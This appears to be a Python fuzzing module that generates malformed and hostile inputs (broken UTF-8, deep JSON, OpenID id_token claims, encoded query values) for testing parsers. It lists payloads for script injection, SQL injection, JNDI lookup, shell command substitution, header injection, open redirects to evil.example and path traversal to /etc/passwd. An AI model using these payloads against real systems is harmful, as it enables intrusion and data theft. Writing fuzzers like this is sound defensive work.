"""Hostile values: a small grammar of bytes that parsers have stumbled over elsewhere."""

from random import Random
from urllib.parse import quote_from_bytes

LONG = (255, 256, 257, 1023, 4096, 8192, 16_385, 70_000)
WORDS = (b"", b" ", b"x", b"0", b"-1", b"1", b"null", b"true", b"undefined", b"[object Object]", b"*", b"~", b"|")
NUMBERS = (
    b"1e400",
    b"NaN",
    b"-Infinity",
    b"0x10",
    b"9" * 5000,
    b"1" * 400,
    b"-0",
    b"1.5",
    b"\xd9\xa1\xd9\xa2",
    b"1_000",
)
BROKEN = (
    b"\x00",
    b"a\x00b",
    b"\xed\xa0\x80",  # a lone surrogate
    b"\xed\xb0\x80\xed\xa0\x80",
    b"\xc0\x80",  # overlong NUL
    b"\xc0\xaf",  # overlong slash
    b"\xe0\x80\xaf",
    b"\xf4\x90\x80\x80",  # above U+10FFFF
    b"\xff\xfe",
    b"\x80",
    b"\xef\xbb\xbf",
    b"\xe2\x80\xae\xe2\x80\x8d",  # right-to-left override, joiner
    b"\xcc\x81" * 300,
    b"\xf0\x9f\x92\xa9",
    b"\xef\xbf\xbf",
    b"\x1b[31m",
    b"\r\nSet-Cookie: x=1",
    b"\r\n\r\n<html>",
    b"\n",
    b"\t\x0b\x0c",
    b"\x7f",
    b"\xc2\x85\xe2\x80\xa8",
)
MARKUP = (
    b"<script>alert(1)</script>",
    b'"><img src=x onerror=alert(1)>',
    b"{{7*7}}",
    b"{% for x in (1,) %}",
    b"%(name)s",
    b"{0.__class__}",
    b"${jndi:ldap://x.example/a}",
    b"' OR 1=1--",
    b"'; DROP TABLE users;--",
    b"$(id)",
    b"`id`",
    b"%s%s%n",
)
PLACES = (
    b"//evil.example",
    b"/\\evil.example",
    b"https://evil.example/",
    b"https://app.example.test@evil.example/callback",
    b"https://app.example.test/callback/../evil",
    b"https://app.example.test.evil.example/callback",
    b"javascript:alert(1)",
    b"data:text/html,x",
    b"file:///etc/passwd",
    b"http://[::1",
    b"http://[::ffff:127.0.0.1%25x]/",
    b"https://app.example.test:99999999/",
    b"https://xn--\xff.example/",
    b"http://127.0.0.1:1/",
    b"../../../../etc/passwd",
    b"..%2f..%2fetc",
)
POOLS = (WORDS, NUMBERS, BROKEN, MARKUP, PLACES)


def raw(random: Random) -> bytes:
    """A hostile value."""
    choice = random.randrange(10)
    if choice == 0:
        return random.choice(WORDS + BROKEN) * random.choice(LONG[:5]) or b"x" * random.choice(LONG)
    if choice == 1:
        return raw(random) + raw(random)
    if choice == 2:
        return json_text(random)
    if choice == 3:
        return random.randbytes(random.randrange(40))
    return random.choice(random.choice(POOLS))


def encoded(random: Random, value: bytes | None = None) -> bytes:
    """A hostile value (or the one given) as it stands in a query or form: encoded well, twice or by halves."""
    value = raw(random) if value is None else value
    choice = random.randrange(12)
    if choice == 0:
        return value.replace(b" ", b"+")
    if choice == 1:
        return quote_from_bytes(quote_from_bytes(value).encode()).encode()
    if choice == 2:
        return quote_from_bytes(value).encode() + random.choice((b"%", b"%4", b"%zz", b"%u0041", b"%00", b"%C0%80"))
    if choice == 3:
        return b"".join(b"%%%02x" % each for each in value[:2000])
    return quote_from_bytes(value).encode()


def header(random: Random) -> bytes:
    """A hostile value that a header can carry: no line ends, no NUL, at most 8 KB."""
    return raw(random).translate(None, b"\r\n\x00")[:8192]


def json_text(random: Random) -> bytes:
    """JSON that is deep, wide, doubled, broken, or of the wrong types."""
    depth = random.choice((3, 30, 200, 970, 5000, 20_000))
    inner = random.choice((b"1", b"null", b'"\\ud800"', b"1e999", b"NaN", b"", b'{"__proto__":1}', b"9" * 4400))
    return random.choice(
        (
            b"[" * depth + inner + b"]" * depth,
            b'{"a":' * depth + inner + b"}" * depth,
            b"[" * depth,
            b'{"id_token":' * min(depth, 900) + b"}" * min(depth, 900),
            b'{"id_token":{"sub":{"value":' + inner + b"}}}",
            b'{"userinfo":{"email":{"essential":' + inner + b',"values":[' + inner + b"]}}}",
            b'{"id_token":{"acr":{"values":' + b"[" * (depth % 1000) + b"]" * (depth % 1000) + b"}}}",
            b'{"id_token":null,"id_token":{"x":1},"id_token":[]}',
            b'{"' + b'":1,"'.join(b"k%d" % number for number in range(depth % 1000)) + b'":1}',
            b'{"id_token":{"' + b"a" * depth + b'":null}}',
            b'"' + b"\\u0000" * 3 + b'"',
            b"\xef\xbb\xbf{}",
            b"[]" * 21 + b'"' + b'\\"' * depth,
            b'{"id_token":{"auth_time":{"essential":"yes","value":' + inner + b"}}}",
        )
    )
